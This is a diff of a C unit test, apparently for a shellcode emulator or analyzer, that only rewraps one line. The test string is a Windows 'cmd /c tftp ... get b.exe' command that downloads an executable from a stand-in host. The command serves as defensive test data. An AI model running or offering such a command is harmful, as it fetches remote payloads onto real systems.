@@ -356,7 +356,8 @@ test_hash_resolution(void **state)
 static void
 test_analyze_emulated_command(void **state)
 {
-	static const char	 cmd[] = "cmd /c tftp -i 203.0.113.9 get b.exe";
+	static const char	 cmd[] =
+	    "cmd /c tftp -i 203.0.113.9 get b.exe";
 	static const char	 url[] = "tftp://203.0.113.9/b.exe";
 	uint8_t			 code[256];
 	struct sc_result	 res;
